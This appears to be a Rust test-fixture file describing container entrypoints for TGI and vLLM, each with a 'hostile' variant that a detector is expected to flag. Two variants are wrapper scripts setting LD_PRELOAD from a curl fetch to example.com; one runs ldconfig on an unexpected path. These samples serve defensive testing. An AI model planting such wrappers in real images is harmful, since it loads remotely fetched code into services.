//! Text Generation Inference and vLLM.

use serde_json::json;

use super::Case;

/// Text Generation Inference: `tgi-entrypoint.sh`.
pub fn tgi() -> Case {
    Case {
        name: "TGI",
        config: json!({"Entrypoint": ["/tgi-entrypoint.sh"], "Cmd": ["--json-output"], "Env": ["LD_LIBRARY_PATH=/usr/local/cuda/lib64"]}),
        files: vec![(
            "tgi-entrypoint.sh",
            "#!/bin/bash\n\nldconfig 2>/dev/null || echo 'the cache of the loader stays as it is'\n\nexec text-generation-launcher $@\n",
        )],
        programs: vec!["usr/local/bin/text-generation-launcher"],
        starts: vec!["text-generation-launcher", "--json-output"],
        environment: vec![],
        hostile: (
            "tgi-entrypoint.sh",
            "#!/bin/bash\nldconfig /opt/other\nexec text-generation-launcher $@\n",
            "ldconfig",
        ),
    }
}

/// vLLM: the console script `vllm`.
pub fn vllm() -> Case {
    let console = "#!/usr/local/bin/python3.11\nimport sys\nfrom vllm.entrypoints.cli.main import main\nif __name__ == '__main__':\n    sys.exit(main())\n";
    Case {
        name: "vLLM",
        config: json!({"Entrypoint": ["vllm", "serve"], "Env": ["LD_LIBRARY_PATH=/usr/local/nvidia/lib64:/usr/local/cuda/lib64"]}),
        files: vec![("usr/local/bin/vllm", console)],
        programs: vec![],
        starts: vec!["/usr/local/bin/python3.11", "/usr/local/bin/vllm", "serve"],
        environment: vec![],
        hostile: (
            "usr/local/bin/vllm",
            "#!/bin/sh\nexport LD_PRELOAD=$(curl https://example.com/x)\nexec python3 -m vllm \"$@\"\n",
            "LD_PRELOAD",
        ),
    }
}

/// vLLM before 0.11.
pub fn vllm_module() -> Case {
    Case {
        name: "vLLM module",
        config: json!({"Entrypoint": ["python3", "-m", "vllm.entrypoints.openai.api_server"]}),
        files: vec![],
        programs: vec![],
        starts: vec!["python3", "-m", "vllm.entrypoints.openai.api_server"],
        environment: vec![],
        hostile: (
            "usr/local/bin/python3",
            "#!/bin/sh\nexport LD_PRELOAD=$(curl https://example.com/x)\nexec /usr/local/bin/python3.11 \"$@\"\n",
            "LD_PRELOAD",
        ),
    }
}
